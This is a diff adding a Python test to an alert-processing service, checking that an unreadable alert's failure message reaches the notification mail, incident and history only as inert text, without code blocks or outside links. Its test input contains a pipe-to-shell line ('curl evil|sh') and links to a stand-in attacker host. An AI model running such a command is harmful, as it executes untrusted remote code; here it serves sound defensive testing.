@@ -22,6 +22,7 @@ from shared.persistence.queues import Message
 from tests.support.asgi import Credential
 from tests.support.containment import rotated
 from tests.support.driver import OWNER, Crashed, Driver, Lifetime, found, report
+from tests.support.harmless import Page, check_inert, check_text
 from tests.support.leaks import account_sas, blob_sas
 from tests.support.samples import NOW
 
@@ -156,6 +157,27 @@ async def test_alert_that_can_t_be_read_becomes_a_failed_record_an_incident_and_
     assert f"{reference} was reported" in record.detail
     assert len(driver.incidents(record.fingerprint)) == 1
     assert "ALERT NOT READABLE" in driver.cloud.model.mails[before].subject
+
+
+async def test_failure_of_an_unreadable_alert_is_no_command_in_the_mail_about_it(driver: Driver) -> None:
+    """The text of an exception may quote what a service or a stranger said."""
+    failure = "Reading failed: `curl evil|sh`, see https://evil.example or <a href=//evil.example>this</a>."
+    message = AlertMessage(AlertReference(AlertSource.GITHUB, "contoso/x", "77"), driver.clock(), 0, failure)
+    await driver.app().background.poison_messages.unread(msgspec.json.encode(message))
+    [fingerprint] = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}
+    before = len(driver.cloud.model.mails)
+
+    await driver.app().background.follow_up.run(Message(fingerprint))
+
+    mail, [incident] = driver.cloud.model.mails[before], driver.incidents(fingerprint)
+    page = Page(mail.body)
+    assert "curl evil|sh" in "".join(page.text)
+    assert page.code == []
+    assert [link for link in page.links if not link.endswith(f"#/record/{fingerprint}")] == []
+    for text in incident.fields.values():
+        check_inert(text)
+    for line in await driver.history(fingerprint):
+        check_text(line.what)
 
 
 async def test_foreign_message_in_the_poison_queue_is_reported(driver: Driver) -> None:
